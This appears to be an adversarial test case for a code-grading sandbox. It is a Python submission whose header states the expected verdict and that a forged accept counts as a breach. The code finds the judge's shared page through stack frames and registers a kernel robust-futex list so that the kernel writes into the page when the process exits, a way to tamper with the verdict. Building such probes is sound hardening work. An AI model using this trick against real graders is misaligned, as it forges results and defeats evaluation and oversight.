# attack: has the kernel write to the shared page when the process ends, by a list of locks
# expect: RTE
# must-not: judge fault; a forged answer counts
# probe: verdict AC or JE is a breach
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def sc(n, *a):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(n), *[ctypes.c_ulong(x & (2**64-1)) if isinstance(x, int) else x for x in a])
    return r if r >= 0 else -ctypes.get_errno()

import mmap
f = sys._getframe(); page = None
while f:
    s = f.f_locals.get("self")
    if s is not None and hasattr(getattr(s, "_channel", None), "_page") and page is None: page = s._channel._page; cells = s._channel.cells
    f = f.f_back
a = ctypes.addressof(ctypes.c_char.from_buffer(page))
head = (ctypes.c_uint64*3)(a+1024, 0, 0)
ctypes.memmove(a+1024, ctypes.byref((ctypes.c_uint64*1)(a+1024)), 8)
page[0:4] = int.to_bytes(os.getpid(), 4, "little")
OUT = sc(273, ctypes.addressof(head), 24)
head[1] = a - 1024 - a
os._exit(0)

def layer_norm(x, gamma, beta, eps=1e-6):
    raise RuntimeError(str(OUT))
